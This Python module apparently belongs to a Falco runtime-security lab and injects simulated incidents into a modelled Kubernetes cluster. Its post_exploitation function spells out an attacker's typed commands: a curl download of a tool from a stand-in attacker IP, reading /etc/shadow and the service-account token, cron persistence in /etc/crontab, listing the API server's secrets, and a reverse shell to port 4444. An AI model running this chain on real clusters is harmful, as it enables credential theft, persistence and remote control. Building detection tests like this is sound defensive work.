"""Incidents injected into a simulated cluster: the workshop's tests and a post-exploitation chain.

* :func:`workshop_tests` - the three tests exactly as ``falco_lab.cluster.workshop_tests``
  runs them (same manifests, same command);
* :func:`post_exploitation` - an attacker's shell in an API pod: download a tool, read
  ``/etc/shadow``, persist below ``/etc``, call the API server, start a reverse shell.
"""

from __future__ import annotations

from falco_lab.simulate.actions import Simulator
from falco_lab.simulate.model import Pod
from falco_lab.simulate.workloads import NS, Fleet
from falco_lab.workshop import manifests as workshop


def workshop_tests(sim: Simulator, *, at: int, namespace: str = workshop.NAMESPACE) -> list[Pod]:
    """The three workshop tests, exactly as ``falco_lab.cluster.workshop_tests`` runs them.

    Creates the shell, runtime-socket and host-``/etc`` pods from cluster mode's
    manifests, execs ``sh`` into the shell pod with and without a TTY, then deletes all
    three pods.
    """
    from falco_lab.workshop.steps import SHELL_COMMAND

    pods = [sim.create_pod(m, at=at) for m in workshop.pod_manifests(namespace)]
    shell = pods[0]
    for tty in (True, False):
        proc, result = sim.exec_in_container(shell, list(SHELL_COMMAND), tty=tty, at=sim.tick(NS, 3 * NS))
        sim.exit(proc, result.exit_code)
    for pod in reversed(pods):
        sim.delete_pod(pod, at=sim.tick(NS, 2 * NS))
    return pods


#: The attacker's host (TEST-NET-3 documentation range: never a real address).
ATTACKER_IP = "203.0.113.66"


def post_exploitation(sim: Simulator, fleet: Fleet, *, at: int) -> Pod:
    """A post-exploitation chain in one of the shop API pods (runs as root).

    An attacker with a stolen kubeconfig opens ``kubectl exec -it … -- bash`` and types:
    recon, ``curl`` of a tool into ``/tmp``, ``chmod +x``, ``cat /etc/shadow``, a cron
    entry appended to ``/etc/crontab``, the service-account token used against the API
    server, and the tool started as a reverse shell to :data:`ATTACKER_IP` (connect, then
    stdin/stdout/stderr duplicated onto the socket).
    """
    targets = fleet.by_role("api")
    if not targets:
        raise ValueError("the post-exploitation chain needs an API pod in the fleet")
    pod = targets[0]
    typed = [
        "id",
        "uname -a",
        f"curl -fsSL http://{ATTACKER_IP}/k.bin -o /tmp/kworkerd",
        "chmod 755 /tmp/kworkerd",
        "cat /etc/shadow",
        "echo '*/5 * * * * root /tmp/kworkerd' >> /etc/crontab",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "curl -sk https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
        f"/tmp/kworkerd {ATTACKER_IP}:4444",
    ]
    proc, _ = sim.exec_in_container(pod, ["bash"], tty=True, typed=typed, at=at)
    sim.exit(proc, 0)
    return pod


__all__ = ["ATTACKER_IP", "post_exploitation", "workshop_tests"]
